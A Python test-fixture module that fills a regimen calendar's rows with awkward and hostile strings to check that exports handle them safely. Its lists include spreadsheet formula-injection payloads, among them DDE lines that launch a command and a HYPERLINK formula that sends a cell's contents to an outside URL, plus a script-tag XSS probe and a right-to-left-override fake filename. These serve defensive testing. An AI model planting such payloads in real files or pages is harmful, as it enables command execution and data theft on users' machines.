"""Texts that files must carry unharmed and readers must not act on, and a calendar full of them."""

from __future__ import annotations

from attrs import evolve

from regimens.calendars import Calendar

__all__ = ["FORMULAS", "TEXTS", "with_texts"]

# What OWASP's page on CSV injection and the spreadsheets' own habits name.
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\u200f=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "－1+1",
    "'=1+1",
    "''=1+1",
    '"=1+1"',
    "=cmd|'/c calc'!A1",
    "@cmd|'/c calc'!A1",
    '=HYPERLINK("http://example.org?x="&A1,"see")',
    "=1+1,=2+2",
    "x;=1+1",
    "x|=1+1",
    "x\t=1+1",
    "x\n=1+1",
    "x\r\n=1+1",
    'x;"=1+1"',
    "x; \u200f'=1+1",
)
TEXTS = (
    *FORMULAS,
    "-3",
    "-0.7",
    "'",
    "'t Hooft",
    "a,b",
    'say "no"',
    '"',
    '""',
    "two\nlines",
    "two\r\nlines",
    "one\rreturn",
    "\x00",
    "a\x00b",
    "\x1b[31m",
    "\u202etxt.exe",
    "a\u200fb",
    "<script>alert(1)</script>",
    "💊 👩‍⚕️",
    "Σ=1",
    "x" * 10_000,
    ";='" * 3_333,
)


def with_texts(calendar: Calendar, texts: tuple[str, ...]) -> Calendar:
    """A calendar whose rows have these texts for a phase and a level, one after the other."""
    rows = tuple(
        evolve(
            row,
            slot=evolve(row.slot, phase=text),
            resolved=evolve(row.resolved, level=text, fraction=None),
        )
        for row, text in zip(calendar, texts, strict=False)
    )
    assert len(rows) == len(texts)
    return evolve(calendar, administrations=rows)
